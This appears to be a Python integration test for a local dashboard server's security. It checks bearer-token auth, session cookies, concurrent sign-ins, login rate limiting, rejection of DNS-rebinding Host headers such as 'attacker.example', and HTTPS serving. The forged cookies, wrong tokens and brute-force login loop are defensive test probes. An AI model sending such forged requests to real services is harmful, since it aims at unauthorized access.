TOKEN = os.environ["SERVE_TOKEN"]
s, hdrs, body = request("/api/clusters", url=TOKEN_URL)
ok("with a token asked, the API without one gets 401 and WWW-Authenticate",
   s == 401 and "bearer" in hdrs.get("www-authenticate", "").lower(), (s, hdrs))
s, hdrs, body = request("/", url=TOKEN_URL)
ok("and the page sends the browser to /login", s == 303 and hdrs.get("location") == "/login", (s, hdrs))
s, hdrs, body = request("/api/clusters", url=TOKEN_URL, headers={"Authorization": f"Bearer {TOKEN}"})
ok("Authorization: Bearer with the token is let in", s == 200, s)
s, hdrs, body = request("/api/clusters", url=TOKEN_URL, headers={"Authorization": f"Bearer {TOKEN}x"})
ok("a wrong token is not", s == 401, s)
s, hdrs, body = request("/login", url=TOKEN_URL)
ok("GET /login is a form without script", s == 200 and b"<form" in body and b"<script" not in body, body[:200])
s, hdrs, body = request("/login", url=TOKEN_URL, method="POST", body="token=wrong",
                        headers={"Content-Type": "application/x-www-form-urlencoded"})
ok("signing in with a wrong token gets 401 and no cookie", s == 401 and "set-cookie" not in hdrs, (s, hdrs))
s, hdrs, body = request("/login", url=TOKEN_URL, method="POST",
                        body="token=" + urllib.parse.quote(TOKEN),
                        headers={"Content-Type": "application/x-www-form-urlencoded"})
cookie = hdrs.get("set-cookie", "")
ok("signing in sets an HttpOnly, SameSite=Strict session cookie that is not the token",
   s == 303 and "HttpOnly" in cookie and "SameSite=Strict" in cookie and TOKEN not in cookie, (s, cookie))
sid = cookie.split(";")[0]
s, hdrs, body = request("/api/clusters", url=TOKEN_URL, headers={"Cookie": sid})
ok("the session cookie lets the page in", s == 200, s)
s, hdrs, body = request("/api/clusters", url=TOKEN_URL, headers={"Cookie": sid[:-4] + "0000"})
ok("a forged session cookie does not", s == 401, s)

# Sign-ins at once, right and wrong, each answered for what it sent (no shared parser state).
import threading
results = {}


def login(i, token):
    body = "a=b&" * 200 + "token=" + urllib.parse.quote(token) + "&c=d"
    s_, h_, _ = request("/login", url=TOKEN_URL, method="POST", body=body,
                        headers={"Content-Type": "application/x-www-form-urlencoded"})
    results[i] = (token == TOKEN, s_)


threads = [threading.Thread(target=login, args=(i, TOKEN if i % 2 else "wrong-token-" + str(i))) for i in range(16)]
for t in threads:
    t.start()
for t in threads:
    t.join()
ok("16 sign-ins at once, half right: each right one signs in, each wrong one does not",
   all((st_ == 303) if right else (st_ in (401, 429)) for right, st_ in results.values()) and len(results) == 16,
   results)
for _ in range(25):
    s, hdrs, body = request("/login", url=TOKEN_URL, method="POST", body="token=wrong",
                            headers={"Content-Type": "application/x-www-form-urlencoded"})
ok("after 20 failed sign-ins in a minute, from anyone, the next are refused (429) without trying them",
   s == 429, s)
s, hdrs, body = request("/api/clusters", url=TOKEN_URL, headers={"Authorization": f"Bearer {TOKEN}"})
ok("the token itself still works", s == 200, s)

# DNS rebinding: without a token, only loopback names are answered.
s, hdrs, body = request("/api/clusters", headers={"Host": "attacker.example:8080"})
s2, _, _ = request("/api/clusters", headers={"Host": f"localhost:{host_port(URL)[1]}"})
s3, _, _ = request("/api/clusters", headers={"Host": "[::1]"})
ok("without a token, a request for another host name gets 421; localhost and [::1] are answered",
   s == 421 and s2 == 200 and s3 == 200, (s, s2, s3))
s, hdrs, body = request("/api/clusters", url=TOKEN_URL, headers={"Host": "dashboard.example", "Authorization": f"Bearer {TOKEN}"})
ok("with a token, any host name (a proxy's) is answered", s == 200, s)

TLS_URL = os.environ["SERVE_TLS_URL"]
ctx = ssl.create_default_context(cafile=os.environ["SERVE_CA"])
s, hdrs, body = request("/api/clusters", url=TLS_URL, context=ctx)
ok(f"--tls-cert/--tls-key serve HTTPS ({TLS_URL})", TLS_URL.startswith("https://") and s == 200, s)
try:
    request("/api/clusters", url=TLS_URL.replace("https", "http"))
    plain = True
except Exception:
    plain = False
ok("and not plain HTTP on the same port", not plain)

sys.exit(1 if failures else 0)
